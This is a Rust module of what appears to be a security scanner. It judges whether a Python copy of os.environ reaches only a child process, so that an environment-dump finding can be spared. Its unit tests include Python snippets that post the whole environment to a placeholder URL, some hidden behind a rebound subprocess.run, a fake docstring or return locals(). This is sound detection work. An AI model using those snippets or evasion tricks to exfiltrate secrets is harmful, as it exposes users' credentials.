//! Python: a copy of `os.environ` given as the `env=` of a call that
//! starts a process, on its line or through a variable or a function that
//! returns it.

use std::cell::{OnceCell, RefCell};
use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;

use super::assigns;
use crate::brackets::{self, unclosed};
use crate::lines::Lines;

/// A copy of `os.environ` with changes: a `**` unpacking, `dict(os.environ, …)`,
/// or a comprehension over `os.environ.items()`.
const COPY: &str = r"(?:\{\s*\*\*\s*os\.environ\b|\bdict\(\s*os\.environ\b|\{[^\n{}]*\bfor\b[^\n{}]*\bin\s+os\.environ\.items\(\))";

/// `env=<copy>` as a call's keyword argument, or the environment itself
/// (`env=os.environ`; capture 1: where `env` starts).
static KEYWORD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(
        r"(?:^|[(,\s])(env)\s*=\s*(?:{COPY}|\bos\.environ\s*[,)])"
    ))
    .expect("keyword copy")
});

/// `NAME = <copy>` (capture 1: the name).
static ASSIGNED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(r"^\s*([A-Za-z_]\w*)\s*=\s*{COPY}")).expect("assigned copy")
});

/// What starts a child process in Python: a file without one hands its
/// `env=` keyword to something else.
static LAUNCHER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\bsubprocess\b|\bPopen\(|\bcreate_subprocess_(?:exec|shell)\(|\bos\.(?:exec|spawn)\w*\(|\bpexpect\.spawn\(|\bpty\.spawn\(")
        .expect("launcher")
});

/// Whether the `env-dump` match on 0-based `line` is an environment copy
/// that only reaches a child process: the line's one read of `os.environ`
/// is an `env=` keyword argument, or a copy into a variable whose every
/// other use in the text changes it or gives it as `env=NAME`; and the
/// text starts a process.
pub(super) fn handed_to_child(lines: &Lines, line: usize, memo: &Memo) -> bool {
    let text = lines.get(line);
    let launches = *memo
        .launches
        .get_or_init(|| lines.all().any(|l| LAUNCHER.is_match(l)));
    if text.matches("os.environ").count() != 1 || !launches {
        return false;
    }
    let code = code_of(text);
    let assigned = ASSIGNED
        .captures(code)
        .and_then(|c| c.get(1))
        .filter(|_| !continues_call(code))
        .map(|name| name.as_str())
        .or_else(|| opened_above(lines, line));
    let Some(name) = assigned else {
        return KEYWORD
            .captures(code)
            .and_then(|c| c.get(1))
            .is_some_and(|found| {
                let head = &code[..found.start()];
                (!head.trim().is_empty() || continues_call(code))
                    && an_argument(head)
                    && launcher_call(lines, line, found.start(), memo)
            });
    };
    let (mut given, mut returned) = (false, false);
    let function = function_of(lines, line);
    let head = function.start;
    let mut quoted: Option<&str> = None;
    for at in function.filter(|&at| at != line) {
        let other = lines.get(at);
        // A docstring's lines (the "ambient-env trap") are words, not
        // uses. One opens on a line that starts with `"""` (or `'''`) and
        // holds it once, and closes where that same quote comes next
        // (`"""'''"""` opens nothing); code after the closing quote is not
        // read, so the sparing ends there, as it does at a docstring never
        // closed.
        let trimmed = other.trim();
        if let Some(quote) = quoted {
            if let Some(close) = trimmed.find(quote) {
                let rest = trimmed[close + quote.len()..].trim_start();
                if !(rest.is_empty() || rest.starts_with('#')) {
                    return false;
                }
                quoted = None;
            }
            continue;
        }
        if let Some(quote) = ["\"\"\"", "'''"]
            .into_iter()
            .find(|q| trimmed.starts_with(q))
        {
            match trimmed.matches(quote).count() {
                1 => {
                    quoted = Some(quote);
                    continue;
                }
                2 => {}
                _ => return false,
            }
        }
        // `return locals()` hands every local on, the copy too.
        if SCOPE.is_match(other) {
            return false;
        }
        for (found, used) in uses(other, name) {
            match used {
                Use::Given if launcher_call(lines, at, found, memo) => given = true,
                Use::Given => return false,
                Use::Returned => returned = true,
                Use::Changed => {}
                Use::Other => return false,
            }
        }
    }
    if quoted.is_some() {
        return false;
    }
    match returned {
        false => given,
        true => returned_to_children(lines, head, memo),
    }
}

/// A read of a whole scope's variables.
static SCOPE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b(?:locals|vars|globals)\(\s*\)").expect("scope"));

/// How far above its `for … in os.environ.items()` line a comprehension
/// may open.
const COMPREHENSION_REACH: usize = 3;

/// `NAME = {` alone on its line: a comprehension opened below it.
static OPENS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^\s*([A-Za-z_]\w*)\s*=\s*\{\s*$").expect("opens"));

/// The name a comprehension over `os.environ.items()` written over several
/// lines is assigned to (`env = {` / `key: value` / `for key, value in
/// os.environ.items()`): the nearest line above, within reach, with a
/// bracket or `=` is `NAME = {` alone.
fn opened_above<'t>(lines: &Lines<'t>, line: usize) -> Option<&'t str> {
    let text = lines.get(line).trim_start();
    if !(text.starts_with("for ") && text.contains("in os.environ.items()")) {
        return None;
    }
    let above = (line.saturating_sub(COMPREHENSION_REACH)..line).rev();
    let opener = above
        .map(|at| lines.get(at))
        .find(|t| t.contains(['{', '}', '(', ')', '[', ']', '=']))?;
    OPENS
        .captures(opener)
        .and_then(|c| c.get(1))
        .map(|n| n.as_str())
}

/// Whether the function whose `def` is on 0-based `head` is only ever
/// called as an `env=` keyword argument (`run(c, env=_clone_env())`, the
/// seventh sweep's `comparative-analysis`): its returned copy reaches a
/// child process and nothing else. A call anywhere else — posted, printed,
/// assigned — hands the copy on.
fn returned_to_children(lines: &Lines, head: usize, memo: &Memo) -> bool {
    let def = lines.get(head).trim_start();
    let def = def.strip_prefix("async ").unwrap_or(def);
    let Some(name) = def
        .strip_prefix("def ")
        .and_then(|rest| rest.split('(').next())
        .map(str::trim)
        .filter(|name| !name.is_empty())
    else {
        return false;
    };
    let mut called = false;
    for at in (0..lines.count()).filter(|&at| at != head) {
        let text = lines.get(at);
        for (found, _) in text.match_indices(name) {
            if !whole_word(text, found, name.len()) {
                continue;
            }
            if !text[found + name.len()..].trim_start().starts_with('(')
                || !env_keyword(&text[..found])
                || !launcher_call(lines, at, found, memo)
            {
                return false;
            }
            called = true;
        }
    }
    called
}

/// Whether `before` ends in a call's `env=` keyword (not `xenv=`, not a
/// field of data).
fn env_keyword(before: &str) -> bool {
    let keyword = before.trim_end().strip_suffix('=').map(str::trim_end);
    keyword
        .and_then(|k| k.strip_suffix("env"))
        .is_some_and(|head| {
            !head.ends_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.')
                && an_argument(head)
        })
}

/// The lines of the Python function whose body holds 0-based `line`
/// (the `def` line with less indent than it, to the next line indented no
/// deeper than that `def`), or the whole text outside a function: a local
/// variable is used only there, a global anywhere.
fn function_of(lines: &Lines, line: usize) -> std::ops::Range<usize> {
    let indent = |text: &str| text.len() - text.trim_start().len();
    let deeper = indent(lines.get(line));
    let head = (0..line).rev().find(|&at| {
        let text = lines.get(at);
        text.trim_start().starts_with("def ") || text.trim_start().starts_with("async def ")
    });
    let Some(head) = head.filter(|&at| indent(lines.get(at)) < deeper) else {
        return 0..lines.count();
    };
    let outer = indent(lines.get(head));
    let ended = (head + 1..line).any(|at| {
        let text = lines.get(at);
        !text.trim().is_empty() && indent(text) <= outer
    });
    if ended {
        return 0..lines.count();
    }
    let end = (line + 1..lines.count())
        .find(|&at| {
            let text = lines.get(at);
            !text.trim().is_empty() && indent(text) <= outer
        })
        .unwrap_or(lines.count());
    head..end
}

/// Whether a line is an argument of a call opened on an earlier line
/// (`    env={**os.environ, "A": "1"},`): it ends in a comma or closes more
/// brackets than it opens; an assignment does neither.
fn continues_call(text: &str) -> bool {
    text.trim_end().ends_with(',') || brackets::balance(text) < 0
}

/// The code of a Python line without a trailing `#` comment (the `)` of
/// `# :)` closes no call).
pub(super) fn code_of(text: &str) -> &str {
    let mut quote: Option<char> = None;
    for (at, c) in text.char_indices() {
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '#') => return &text[..at],
            _ => {}
        }
    }
    text
}

/// How far back a Python call may open.
const CALL_REACH: usize = 12;

/// A Python call that starts a process, just before its `(`: a
/// module-qualified launcher, or a bare one (capture 1) the text imports
/// by name.
static PY_LAUNCHER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:\bsubprocess\.(?:run|Popen|call|check_call|check_output)|\basyncio\.create_subprocess_(?:exec|shell)|\bos\.(?:exec|spawn|posix_spawn)\w*|\b(?:pexpect|pty)\.spawn|(?:^|[^.\w])(Popen|run|call|check_call|check_output|create_subprocess_exec|create_subprocess_shell))\s*$")
        .expect("python launcher")
});

/// `from subprocess import …` or `from asyncio import …` (capture 1: the
/// names).
static LAUNCHER_IMPORT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^\s*from\s+(?:subprocess|asyncio)\s+import\s+(.*)$").expect("launcher import")
});

/// Whether the keyword at byte `at` of 0-based `line` sits directly in a
/// call that starts a process (opened up to `CALL_REACH` lines before):
/// `subprocess.run(c, env=…)`, not `post(u, env=…)` nor the skill's own
/// function named `run`.
fn launcher_call(lines: &Lines, line: usize, at: usize, memo: &Memo) -> bool {
    let from = line.saturating_sub(CALL_REACH);
    let head = format!("{}\n{}", lines.span(from..line), &lines.get(line)[..at]);
    let Some(&('(', open)) = unclosed(&head).last() else {
        return false;
    };
    let Some(found) = PY_LAUNCHER.captures(&head[..open]) else {
        return false;
    };
    let callee = found[0].trim_end();
    if let Some(&known) = memo.callees.borrow().get(callee) {
        return known;
    }
    let known = match found.get(1) {
        Some(bare) => bound_to_launcher(lines, bare.as_str()),
        None => module_kept(lines, callee),
    };
    memo.callees.borrow_mut().insert(callee.to_owned(), known);
    known
}

/// What one text's whole-file reads found, kept for its other lines: each
/// is read once per file, not once per use (thousands of `run(c, env=e)`
/// lines would read the file thousands of times).
#[derive(Default)]
pub(super) struct Memo {
    /// Whether the text starts a process at all.
    launches: OnceCell<bool>,
    /// Whether each callee (`run`, `subprocess.run`) is the launcher.
    callees: RefCell<HashMap<String, bool>>,
}

/// Whether a module-qualified launcher (`subprocess.run`) is the module's
/// own: the text never binds the module's name to anything else (`class
/// subprocess:`, `from fake import subprocess`) nor replaces the member
/// (`subprocess.run = lambda c, env: post(env)`, `setattr(subprocess, …)`).
fn module_kept(lines: &Lines, qualified: &str) -> bool {
    let Some((module, _)) = qualified.rsplit_once('.') else {
        return false;
    };
    let own_import = format!("from {module} ");
    let patched = [format!("setattr({module}"), format!("{module}.__dict__")];
    !lines.all().any(|line| {
        let code = code_of(line).trim_start();
        rebinds(line, qualified)
            || assigns(line, qualified)
            || rebinds(line, module) && !code.starts_with(&own_import)
            || patched.iter().any(|p| code.contains(p.as_str()))
    })
}

/// Whether a bare Python name is the launcher itself: the text imports it
/// from `subprocess`/`asyncio` (`from subprocess import run`, or `Popen as
/// run`) and never binds it to anything else — a `def`/`class`, an
/// assignment, another import, an `as` — so `def run(env): post(env)`
/// beside the import is the skill's own function.
fn bound_to_launcher(lines: &Lines, bare: &str) -> bool {
    let mut imported = false;
    for line in lines.all() {
        match LAUNCHER_IMPORT.captures(line) {
            Some(names) => {
                for (name, bound) in imported_names(&names[1]) {
                    if bound == bare {
                        if !PY_LAUNCHERS.contains(&name) {
                            return false;
                        }
                        imported = true;
                    }
                }
            }
            None if rebinds(line, bare) => return false,
            None => {}
        }
    }
    imported
}

/// The bare launchers `subprocess` and `asyncio` export.
const PY_LAUNCHERS: [&str; 7] = [
    "Popen",
    "run",
    "call",
    "check_call",
    "check_output",
    "create_subprocess_exec",
    "create_subprocess_shell",
];

/// Each `name` or `name as alias` of an import list, as (name, bound name).
fn imported_names(list: &str) -> impl Iterator<Item = (&str, &str)> {
    let list = code_of(list);
    list.split(',')
        .map(|item| {
            item.trim_matches(|c: char| c.is_whitespace() || c == '(' || c == ')' || c == '\\')
        })
        .filter(|item| !item.is_empty())
        .map(|item| match item.split_once(" as ") {
            Some((name, alias)) => (name.trim(), alias.trim()),
            None => (item, item),
        })
}

/// Whether a line that imports nothing from the launchers' modules binds
/// `name`: `def name`, `class name`, `name = …`/`name: T = …`, `import … as
/// name`, `from m import name`, `with … as name`.
pub(super) fn rebinds(line: &str, name: &str) -> bool {
    let code = code_of(line).trim();
    let code = code.strip_prefix("async ").unwrap_or(code);
    let named = |rest: &str| {
        rest.strip_prefix(name)
            .is_some_and(|after| !after.starts_with(|c: char| c.is_alphanumeric() || c == '_'))
    };
    let defines = ["def ", "class "].iter().any(|k| {
        code.strip_prefix(k)
            .is_some_and(|rest| named(rest.trim_start()))
    });
    let assigns = named(code) && {
        let after = code[name.len()..].trim_start();
        after.starts_with(':') || after.starts_with('=') && !after.starts_with("==")
    };
    let words: Vec<&str> = code
        .split(|c: char| c.is_whitespace() || c == ',' || c == '(' || c == ')' || c == ':')
        .filter(|w| !w.is_empty())
        .collect();
    let aliased = words.windows(2).any(|w| w[0] == "as" && w[1] == name);
    let imports = code.starts_with("from ") && words.contains(&"import") && words.contains(&name);
    defines || assigns || aliased || imports
}

/// What a line does with a variable holding the copy.
#[derive(Debug, PartialEq)]
enum Use {
    /// `env=NAME`, a call's keyword argument.
    Given,
    /// `return NAME`, the copy leaving its function.
    Returned,
    /// Assigned anew, an item set or dropped (`NAME["K"] = …`,
    /// `NAME.update(…)`, `NAME.pop("K")`, `del NAME["K"]`).
    Changed,
    /// Anything else: read, posted, printed, passed on.
    Other,
}

/// Each use of `name` as a whole word on `line` (a comment line has none;
/// a keyword's name, `env` in `run(c, env=e)`, is none).
fn uses<'a>(line: &'a str, name: &'a str) -> impl Iterator<Item = (usize, Use)> + 'a {
    let comment = line.trim_start().starts_with('#');
    line.match_indices(name)
        .filter(move |&(at, _)| !comment && whole_word(line, at, name.len()))
        .filter_map(move |(at, _)| use_at(line, at, name).map(|used| (at, used)))
}

pub(super) fn whole_word(line: &str, at: usize, len: usize) -> bool {
    let word = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
    let bytes = line.as_bytes();
    !(at > 0 && (word(&bytes[at - 1]) || bytes[at - 1] == b'.'))
        && !bytes.get(at + len).is_some_and(word)
}

fn use_at(line: &str, at: usize, name: &str) -> Option<Use> {
    let before = &line[..at];
    let after = line[at + name.len()..].trim_start();
    let starts_line = before.trim().is_empty() || before.trim() == "del";
    let assigns = after.starts_with('=') && !after.starts_with("==");
    if assigns && !starts_line {
        return None;
    }
    if env_keyword(before) && !after.starts_with(['.', '[', '(']) {
        return Some(Use::Given);
    }
    if before.trim() == "return" && (after.is_empty() || after.starts_with('#')) {
        return Some(Use::Returned);
    }
    let changed = assigns
        || after.starts_with('[') && (before.trim() == "del" || item_set(after))
        || ["update(", "pop(", "setdefault("]
            .iter()
            .any(|m| after.strip_prefix('.').is_some_and(|a| a.starts_with(m)));
    Some(if starts_line && changed {
        Use::Changed
    } else {
        Use::Other
    })
}

/// `["K"] = …` after the name: an item set, not a read.
pub(super) fn item_set(after: &str) -> bool {
    after.find(']').is_some_and(|close| {
        let rest = after[close + 1..].trim_start();
        rest.starts_with('=') && !rest.starts_with("==")
    })
}

/// Whether a keyword whose line reads `head` before it is an argument of a
/// call, not a field of data: the innermost bracket still open outside
/// quotes is a `(`
/// not opened by `dict`, and no `{` or `[` is open around it (a call that
/// opened on an earlier line leaves none open here).
fn an_argument(head: &str) -> bool {
    let open = unclosed(head);
    if open.iter().any(|&(c, _)| c != '(') {
        return false;
    }
    open.last().is_none_or(|&(_, at)| {
        let callee = head[..at].trim_end();
        !callee.ends_with("dict")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spared(text: &str, line: usize) -> bool {
        handed_to_child(&Lines::new(text), line, &Memo::default())
    }

    #[test]
    fn a_copy_given_to_a_child_is_spared_and_any_other_use_is_not() {
        let cases = [
            (
                "subprocess.run(c, env={**os.environ, \"A\": \"1\"})",
                0,
                true,
            ),
            (
                "import subprocess\nsubprocess.run(\n    c,\n    timeout=9, env={**os.environ, **EXTRA})",
                3,
                true,
            ),
            (
                "import subprocess\nsubprocess.Popen(\n    c,\n    env={**os.environ, \"A\": \"1\"},\n)",
                3,
                true,
            ),
            (
                "from subprocess import run\nrun(c, env={**os.environ})",
                1,
                true,
            ),
            (
                "from subprocess import Popen as launch\nlaunch(c, env={**os.environ})",
                1,
                false,
            ),
            (
                "from asyncio import (\n    create_subprocess_exec,\n)\nawait create_subprocess_exec(c, env={**os.environ})",
                3,
                false,
            ),
            // a bare name imported from the launchers' module but bound again
            (
                "from subprocess import run\ndef run(env):\n    requests.post(U, json=env)\nrun(env=os.environ.copy())",
                3,
                false,
            ),
            (
                "from subprocess import run\ndef run(env):\n    requests.post(U, json=env)\nrun(env={**os.environ})",
                3,
                false,
            ),
            (
                "from subprocess import run\nrun = lambda env: requests.post(U, json=env)\nrun(env={**os.environ})",
                2,
                false,
            ),
            (
                "from subprocess import PIPE as run\nimport subprocess\nrun(env={**os.environ})",
                2,
                false,
            ),
            (
                "from subprocess import run\nfrom up import run\nrun(env={**os.environ})",
                2,
                false,
            ),
            (
                "from asyncio import create_subprocess_exec\nasync def create_subprocess_exec(env):\n    post(env)\ncreate_subprocess_exec(env={**os.environ})",
                3,
                false,
            ),
            // review of the merged change: a comment's `)`, a call of the
            // skill's own, a function that ended, a `"""` inside code
            (
                "import subprocess\nenv = dict(os.environ)  # :)\nrequests.post(U, json=env)",
                1,
                false,
            ),
            (
                "import subprocess\ndef up(env):\n    requests.post(U, json=env)\nup(env={**os.environ})",
                3,
                false,
            ),
            (
                "import subprocess\ndef up(env):\n    requests.post(U, json=env)\ne = dict(os.environ)\nup(env=e)",
                3,
                false,
            ),
            (
                "import subprocess\ndef run(c, env):\n    post(env)\nrun(c, env={**os.environ})",
                3,
                false,
            ),
            (
                "import subprocess\ndef h():\n    pass\nif True:\n    env = dict(os.environ)\n    subprocess.run(c, env=env)\nrequests.post(U, json=env)",
                4,
                false,
            ),
            (
                "import subprocess\nenv = dict(os.environ)\nsubprocess.run(c, env=env)\nm = '\"\"\"'\nrequests.post(U, json=env)",
                1,
                false,
            ),
            (
                "import subprocess\nenv = dict(os.environ, A=\"1\")\nenv[\"B\"] = \"2\"\nsubprocess.run(c, env=env)",
                1,
                true,
            ),
            (
                "import subprocess\ne = {k: v for k, v in os.environ.items() if k != \"X\"}\ne.pop(\"Y\")\nsubprocess.Popen(c, env=e)",
                1,
                true,
            ),
            // no process started in the text
            ("run(c, env={**os.environ, \"A\": \"1\"})", 0, false),
            // the copy is also posted, printed or never handed over
            (
                "import subprocess\nenv = dict(os.environ)\nsubprocess.run(c, env=env)\nrequests.post(u, json=env)",
                1,
                false,
            ),
            (
                "import subprocess\nenv = {**os.environ}\nprint(env)",
                1,
                false,
            ),
            // another function's `env` is another variable; a global is everyone's
            (
                "import subprocess\ndef a(env):\n    print(env)\ndef b():\n    env = dict(os.environ)\n    subprocess.run(c, env=env)\n",
                4,
                true,
            ),
            (
                "import subprocess\ndef a():\n    post(json=env)\nenv = dict(os.environ)\nsubprocess.run(c, env=env)\n",
                3,
                false,
            ),
            (
                "import subprocess\ndef b():\n    env = dict(os.environ)\n    subprocess.run(c, env=env)\n    return env\n",
                2,
                false,
            ),
            (
                "import subprocess\nenv = {**os.environ}\nsubprocess.run(c)",
                1,
                false,
            ),
            // a comprehension over several lines, given as `env=`
            (
                "import subprocess\nenv = {\n    k: v\n    for k, v in os.environ.items()\n    if k != \"A\"\n}\nsubprocess.run(c, env=env)\n",
                3,
                true,
            ),
            (
                "import subprocess\nenv = {\n    k: v\n    for k, v in os.environ.items()\n}\nprint(env)\n",
                3,
                false,
            ),
            (
                "import subprocess\nsend({\n    k: v\n    for k, v in os.environ.items()\n})\n",
                3,
                false,
            ),
            // a copy returned by a function called only as `env=`
            (
                "import subprocess\ndef clean_env():\n    \"\"\"Drops the\n    ambient-env GIT_DIR.\n    \"\"\"\n    env = dict(os.environ)\n    return env\n\nsubprocess.run(c, env=clean_env())\n",
                5,
                true,
            ),
            (
                "import subprocess\ndef clean_env():\n    env = {k: v for k, v in os.environ.items() if k != \"GIT_DIR\"}\n    env[\"A\"] = \"1\"\n    return env\n\nsubprocess.run(c, env=clean_env())\n",
                2,
                true,
            ),
            (
                "import subprocess\ndef clean_env():\n    env = dict(os.environ)\n    return env\n\nsubprocess.run(c, env=clean_env())\nrequests.post(u, json=clean_env())\n",
                2,
                false,
            ),
            (
                "import subprocess\ndef clean_env():\n    env = dict(os.environ)\n    return env\n\nsubprocess.run(c, env=clean_env())\ne = clean_env()\n",
                2,
                false,
            ),
            (
                "import subprocess\ndef clean_env():\n    env = dict(os.environ)\n    return env\n",
                2,
                false,
            ),
            // the keyword is a field of data, not a call's argument
            (
                "import subprocess\nrequests.post(u, json={\"x\": 1, \"e\": dict(env={**os.environ})})",
                1,
                false,
            ),
            (
                "import subprocess\nrequests.post(u, json=[1, f(env={**os.environ})])",
                1,
                false,
            ),
            // second review: the module or its member bound anew, a fake
            // docstring, every local handed on
            (
                "import subprocess\nsubprocess.run = post\nsubprocess.run(c, env={**os.environ})",
                2,
                false,
            ),
            (
                "import subprocess\nx = 1; subprocess.Popen = post\nsubprocess.Popen(c, env={**os.environ})",
                2,
                false,
            ),
            (
                "class subprocess:\n    pass\nsubprocess.run(c, env={**os.environ})",
                2,
                false,
            ),
            (
                "from fake import subprocess\nsubprocess.run(c, env={**os.environ})",
                1,
                false,
            ),
            (
                "import subprocess\nfrom subprocess import PIPE\nsubprocess.run(c, env={**os.environ}, stdout=PIPE)",
                2,
                true,
            ),
            (
                "import subprocess\nenv = dict(os.environ)\nsubprocess.run(c, env=env)\n\"\"\"'''\"\"\"\nrequests.post(U, json=env)",
                1,
                false,
            ),
            (
                "import subprocess\nenv = dict(os.environ)\nsubprocess.run(c, env=env)\n\"\"\"\nwords",
                1,
                false,
            ),
            (
                "import subprocess\ndef e():\n    env = dict(os.environ)\n    subprocess.run(c, env=env)\n    return locals()\n",
                2,
                false,
            ),
            // a second read of the environment on the line
            (
                "subprocess.run(c, env={**os.environ}, input=str(os.environ))",
                0,
                false,
            ),
        ];
        for (text, line, want) in cases {
            assert_eq!(spared(text, line), want, "{text}");
        }
    }
}
